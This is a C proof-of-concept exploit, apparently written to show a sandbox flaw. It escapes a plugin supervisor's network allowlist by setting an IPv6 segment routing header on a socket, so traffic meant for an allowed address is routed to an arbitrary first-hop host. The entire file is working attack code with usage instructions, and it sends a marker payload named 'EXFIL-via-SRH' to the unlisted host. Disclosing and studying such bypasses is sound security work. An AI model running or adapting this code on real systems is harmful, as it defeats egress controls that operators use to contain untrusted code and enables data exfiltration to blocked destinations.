/* network.http bypass (IPv6): a segment routing header (IPV6_RTHDR type 4;
 * setsockopt needs no capability) on the plugin's socket makes the
 * supervisor's own connect/send to an allowed address go out to FIRSTHOP,
 * which is not on the allowlist. The SRH's first hop becomes the packet's
 * destination; the allowed address is only the last segment.
 * usage: srh tcp|udp ALLOWED_IP6 PORT FIRSTHOP_IP6 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/seg6.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
int main(int argc, char **argv)
{
	if (argc < 5) return 2;
	int udp = strcmp(argv[1], "udp") == 0, type = udp ? SOCK_DGRAM : SOCK_STREAM;
	struct sockaddr_in6 dst = {.sin6_family = AF_INET6, .sin6_port = htons((uint16_t)atoi(argv[3]))};
	inet_pton(AF_INET6, argv[2], &dst.sin6_addr);
	struct sockaddr_in6 evil = dst;
	inet_pton(AF_INET6, argv[4], &evil.sin6_addr);
	int d = socket(AF_INET6, type, 0), r;
	fcntl(d, F_SETFL, O_NONBLOCK);
	r = udp ? (int)sendto(d, "x", 1, 0, (void *)&evil, sizeof(evil)) : connect(d, (void *)&evil, sizeof(evil));
	printf("direct %s to %s: %s\n", udp ? "sendto" : "connect", argv[4],
	       r < 0 && errno != EINPROGRESS ? strerror(errno) : "went out");
	close(d);
	int s = socket(AF_INET6, type, 0);
	unsigned char buf[8 + 2 * 16] = {0};
	struct ipv6_sr_hdr *h = (void *)buf;
	h->hdrlen = 4; h->type = 4 /* IPV6_SRCRT_TYPE_4 */; h->segments_left = 1; h->first_segment = 1;
	h->segments[0] = dst.sin6_addr;  /* replaced by the kernel with the connect address */
	h->segments[1] = evil.sin6_addr; /* the first hop: the packet's destination */
	if (setsockopt(s, IPPROTO_IPV6, IPV6_RTHDR, buf, sizeof(buf)) < 0) { perror("IPV6_RTHDR"); return 1; }
	fcntl(s, F_SETFL, O_NONBLOCK);
	r = udp ? (int)sendto(s, "EXFIL-via-SRH", 13, 0, (void *)&dst, sizeof(dst)) : connect(s, (void *)&dst, sizeof(dst));
	printf("segment-routed %s to allowed [%s]:%s: %s\n", udp ? "sendto" : "connect", argv[2], argv[3],
	       r < 0 && errno != EINPROGRESS ? strerror(errno) : "accepted (EINPROGRESS/sent)");
	sleep(1);
	return 0;
}
